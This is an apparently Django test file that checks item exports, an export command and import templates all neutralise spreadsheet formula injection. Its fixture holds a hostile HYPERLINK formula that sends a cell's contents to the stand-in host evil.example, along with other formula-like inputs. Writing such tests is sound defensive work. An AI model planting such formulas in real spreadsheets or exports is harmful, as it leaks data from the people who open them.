"""A partner's text never runs in the spreadsheet of whoever opens an export or a template."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from laydown.arms import importer
from laydown.people import importer as people_importer
from laydown.testing import signed_in, user_with_role

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_password_hashing")]

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


@pytest.fixture
def evil_item(collect) -> None:
    collect(make=EVIL, model="@SUM(1+1)", calibre="-2+3")


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_items_csv_and_hxl_exports_neutralise_formula_cells(evil_item, fmt: str) -> None:
    client = signed_in(user_with_role("aud", "auditor"))
    rows = list(csv.reader(io.StringIO(_body(client.get(f"/reports/export/items.{fmt}")).decode())))
    item = rows[-1]
    assert item[2:5] == ["'" + EVIL, "'@SUM(1+1)", "'-2+3"]


def test_the_items_xlsx_export_writes_formula_like_text_as_strings(evil_item) -> None:
    client = signed_in(user_with_role("aud", "auditor"))
    book = load_workbook(io.BytesIO(_body(client.get("/reports/export/items.xlsx"))))
    make = book.active.cell(row=2, column=3)
    assert (make.value, make.data_type) == (EVIL, "s")


def test_the_export_command_neutralises_formula_cells(evil_item, tmp_path: Path) -> None:
    call_command("export", "items", str(out := tmp_path / "items.csv"))
    assert "'" + EVIL.replace('"', '""') in out.read_text()
    call_command("export", "items", str(book_path := tmp_path / "items.xlsx"), "--format", "xlsx")
    assert load_workbook(book_path).active.cell(row=2, column=3).data_type == "s"


@pytest.mark.parametrize("write", [importer.items_template, people_importer.participants_template])
def test_import_templates_hold_only_string_cells(write, tmp_path: Path) -> None:
    write(path := tmp_path / "template.xlsx")
    book = load_workbook(path)
    types = {
        c.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.value
    }
    assert types == {"s"}
    write(csv_path := tmp_path / "template.csv")
    assert not any(c.startswith(("=", "+", "-", "@")) for c in csv_path.read_text().split(","))
